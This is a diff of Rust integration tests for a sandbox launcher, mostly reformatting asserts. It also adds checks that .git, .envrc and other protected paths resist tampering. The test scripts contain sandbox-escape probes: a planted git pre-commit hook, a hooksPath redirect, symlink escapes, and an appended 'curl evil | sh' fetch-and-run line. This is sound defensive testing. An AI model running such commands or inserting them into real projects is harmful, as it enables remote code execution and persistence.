@@ -17,9 +17,20 @@ fn write_outside_writable_roots_fails_and_inside_succeeds() {
              true",
         );
         assert!(out.status.success(), "{caller:?}: {}", explain(&out));
-        assert!(stdout(&out).contains("wrote-inside"), "{caller:?}: {}", explain(&out));
-        assert!(!stdout(&out).contains("ESCAPED"), "{caller:?}: {}", explain(&out));
-        assert_eq!(std::fs::read_to_string(work.join("inside.txt")).unwrap(), "inside\n");
+        assert!(
+            stdout(&out).contains("wrote-inside"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert!(
+            !stdout(&out).contains("ESCAPED"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert_eq!(
+            std::fs::read_to_string(work.join("inside.txt")).unwrap(),
+            "inside\n"
+        );
         assert!(!std::path::Path::new("/etc/sl-escape-probe").exists());
         assert!(!std::path::Path::new("/var/tmp/sl-escape-probe").exists());
     }
@@ -40,7 +51,11 @@ fn denied_path_is_unreadable_even_under_readable_root() {
         let text = stdout(&out);
         assert!(!text.contains("s3cr3t"), "{caller:?}: {}", explain(&out));
         assert!(text.contains("rc=1"), "{caller:?}: {}", explain(&out));
-        assert!(text.contains("hello"), "{caller:?}: the twin must stay readable: {}", explain(&out));
+        assert!(
+            text.contains("hello"),
+            "{caller:?}: the twin must stay readable: {}",
+            explain(&out)
+        );
     }
 }
 
@@ -75,8 +90,15 @@ fn deny_write_inside_a_writable_tree_is_read_only() {
             &["--deny-write", "locked"],
             "echo changed > locked/file; touch locked/new; echo ok > free/new && echo free-ok",
         );
-        assert!(stdout(&out).contains("free-ok"), "{caller:?}: {}", explain(&out));
-        assert_eq!(std::fs::read_to_string(work.join("locked/file")).unwrap(), "orig");
+        assert!(
+            stdout(&out).contains("free-ok"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert_eq!(
+            std::fs::read_to_string(work.join("locked/file")).unwrap(),
+            "orig"
+        );
         assert!(!work.join("locked/new").exists());
     }
 }
@@ -92,10 +114,19 @@ fn allow_write_outside_the_workdir_becomes_writable() {
             extra.path.display(),
             other.path.display()
         );
-        let out = sh(caller, &work.path, &["--allow-write", extra.path.to_str().unwrap()], &script);
+        let out = sh(
+            caller,
+            &work.path,
+            &["--allow-write", extra.path.to_str().unwrap()],
+            &script,
+        );
         let text = stdout(&out);
         assert!(text.contains("extra-ok"), "{caller:?}: {}", explain(&out));
-        assert!(text.contains("other-denied"), "{caller:?}: {}", explain(&out));
+        assert!(
+            text.contains("other-denied"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
         assert!(extra.join("a").exists());
         assert!(!other.join("b").exists());
     }
@@ -114,7 +145,11 @@ fn symlink_in_writable_tree_pointing_outside_gives_no_write_access() {
             "echo x > link/escaped; echo rc=$?; ls link >/dev/null && echo can-read; echo y > real && echo twin-ok",
         );
         let text = stdout(&out);
-        assert!(text.contains("rc=1") || text.contains("rc=2"), "{caller:?}: {}", explain(&out));
+        assert!(
+            text.contains("rc=1") || text.contains("rc=2"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
         assert!(text.contains("can-read"), "{caller:?}: {}", explain(&out));
         assert!(text.contains("twin-ok"), "{caller:?}: {}", explain(&out));
         assert!(!outside.join("escaped").exists());
@@ -137,7 +172,17 @@ fn git_commit_works_while_hooks_and_config_stay_read_only() {
             assert!(st.status.success(), "git {args:?}: {}", explain(&st));
         };
         git(&["init", "-q"]);
-        git(&["-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "first"]);
+        git(&[
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@e",
+            "commit",
+            "-q",
+            "--allow-empty",
+            "-m",
+            "first",
+        ]);
         work.give_to_sandbox_user(&work.path);
         let config_before = std::fs::read_to_string(work.join(".git/config")).unwrap();
         let out = sh(
@@ -146,17 +191,33 @@ fn git_commit_works_while_hooks_and_config_stay_read_only() {
             &[],
             "echo 'echo pwned' > .git/hooks/pre-commit; echo hook-rc=$?; \
              echo '[core] hooksPath = /tmp' >> .git/config; echo config-rc=$?; \
+             mv .git .git-moved 2>/dev/null; echo swap-rc=$?; \
              echo data > file && git add file && \
              git -c user.name=t -c user.email=t@e commit -q -m second && echo committed",
         );
         let text = stdout(&out);
         assert!(text.contains("committed"), "{caller:?}: {}", explain(&out));
         assert!(!text.contains("hook-rc=0"), "{caller:?}: {}", explain(&out));
-        assert!(!text.contains("config-rc=0"), "{caller:?}: {}", explain(&out));
+        assert!(
+            !text.contains("config-rc=0"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        // Swapping a fresh .git in under the protected name is refused too.
+        assert!(!text.contains("swap-rc=0"), "{caller:?}: {}", explain(&out));
+        assert!(!work.join(".git-moved").exists());
         assert!(!work.join(".git/hooks/pre-commit").exists());
-        assert_eq!(std::fs::read_to_string(work.join(".git/config")).unwrap(), config_before);
+        assert_eq!(
+            std::fs::read_to_string(work.join(".git/config")).unwrap(),
+            config_before
+        );
         let log = std::process::Command::new("git")
-            .args(["-c", &format!("safe.directory={}", work.path.display()), "log", "--oneline"])
+            .args([
+                "-c",
+                &format!("safe.directory={}", work.path.display()),
+                "log",
+                "--oneline",
+            ])
             .current_dir(&work.path)
             .output()
             .unwrap();
@@ -178,9 +239,21 @@ fn host_root_is_unreachable_and_tmp_is_private() {
         );
         let out = sh(caller, &work.path, &[], &script);
         let text = stdout(&out);
-        assert!(!text.contains("OLDROOT") && !text.contains("NEWROOT"), "{caller:?}: {}", explain(&out));
-        assert!(!text.contains("HOST-TMP-VISIBLE"), "{caller:?}: {}", explain(&out));
-        assert!(text.lines().any(|l| l.trim() == "1"), "{caller:?}: one root mount: {}", explain(&out));
+        assert!(
+            !text.contains("OLDROOT") && !text.contains("NEWROOT"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert!(
+            !text.contains("HOST-TMP-VISIBLE"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert!(
+            text.lines().any(|l| l.trim() == "1"),
+            "{caller:?}: one root mount: {}",
+            explain(&out)
+        );
         assert!(text.contains("tmp-ok"), "{caller:?}: {}", explain(&out));
         assert!(!std::path::Path::new("/tmp/private").exists());
     }
@@ -201,15 +274,27 @@ fn host_sockets_in_run_are_hidden_unless_handed_in() {
     });
     let work = TempDir::new("sockwork");
     let caller = Caller::Invoker;
-    let probe = format!("test -e {} && echo VISIBLE || echo hidden", sock_path.display());
+    let probe = format!(
+        "test -e {} && echo VISIBLE || echo hidden",
+        sock_path.display()
+    );
     let out = sh(caller, &work.path, &[], &probe);
     assert!(stdout(&out).contains("hidden"), "{}", explain(&out));
     let talk = format!(
         "python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect(\"{}\");print(s.recv(100).decode())'",
         sock_path.display()
     );
-    let out = sh(caller, &work.path, &["--allow-unix-socket", sock_path.to_str().unwrap()], &talk);
-    assert!(stdout(&out).contains("hello-from-host"), "{}", explain(&out));
+    let out = sh(
+        caller,
+        &work.path,
+        &["--allow-unix-socket", sock_path.to_str().unwrap()],
+        &talk,
+    );
+    assert!(
+        stdout(&out).contains("hello-from-host"),
+        "{}",
+        explain(&out)
+    );
     serve.join().unwrap();
 }
 
@@ -219,7 +304,10 @@ fn only_standard_streams_cross_into_the_sandbox() {
     for caller in CALLERS {
         let work = TempDir::new("fds");
         let host_file = work.write("host-file", "");
-        let f = std::fs::OpenOptions::new().append(true).open(&host_file).unwrap();
+        let f = std::fs::OpenOptions::new()
+            .append(true)
+            .open(&host_file)
+            .unwrap();
         let raw = std::os::fd::AsRawFd::as_raw_fd(&f);
         let run = |opts: &[&str]| {
             let mut args = vec!["whole-process"];
@@ -238,11 +326,67 @@ fn only_standard_streams_cross_into_the_sandbox() {
             cmd.output().unwrap()
         };
         let out = run(&[]);
-        assert!(stdout(&out).contains("rc=2") || stdout(&out).contains("rc=1"), "{}", explain(&out));
-        assert_eq!(std::fs::read_to_string(&host_file).unwrap(), "", "{caller:?}");
+        assert!(
+            stdout(&out).contains("rc=2") || stdout(&out).contains("rc=1"),
+            "{}",
+            explain(&out)
+        );
+        assert_eq!(
+            std::fs::read_to_string(&host_file).unwrap(),
+            "",
+            "{caller:?}"
+        );
         // The twin: named explicitly, it crosses.
         let out = run(&["--preserve-fd", "7"]);
         assert!(stdout(&out).contains("rc=0"), "{}", explain(&out));
-        assert_eq!(std::fs::read_to_string(&host_file).unwrap(), "leaked\n", "{caller:?}");
+        assert_eq!(
+            std::fs::read_to_string(&host_file).unwrap(),
+            "leaked\n",
+            "{caller:?}"
+        );
+    }
+}
+
+#[test]
+fn existing_protected_files_are_read_only_and_new_ones_are_reported() {
+    for caller in CALLERS {
+        let work = TempDir::new("protected");
+        work.write(".envrc", "export SAFE=1\n");
+        let out = sh(
+            caller,
+            &work.path,
+            &[],
+            "echo 'curl evil | sh' >> .envrc 2>/dev/null || echo envrc-refused; \
+             mkdir .vscode && echo '{}' > .vscode/tasks.json && echo created; echo ok > normal.txt",
+        );
+        let text = stdout(&out);
+        assert!(
+            text.contains("envrc-refused"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert_eq!(
+            std::fs::read_to_string(work.join(".envrc")).unwrap(),
+            "export SAFE=1\n"
+        );
+        // The allowed twin: an ordinary file in the same directory is written.
+        assert_eq!(
+            std::fs::read_to_string(work.join("normal.txt")).unwrap(),
+            "ok\n"
+        );
+        // A protected path that did not exist could be created (making it uncreatable would
+        // mean creating it on the host); the launcher says so when the sandbox ends.
+        assert!(text.contains("created"), "{caller:?}: {}", explain(&out));
+        let err = integration::stderr(&out);
+        assert!(
+            err.contains(".vscode was created inside the sandbox"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
+        assert!(
+            !err.contains(".envrc was created"),
+            "{caller:?}: {}",
+            explain(&out)
+        );
     }
 }
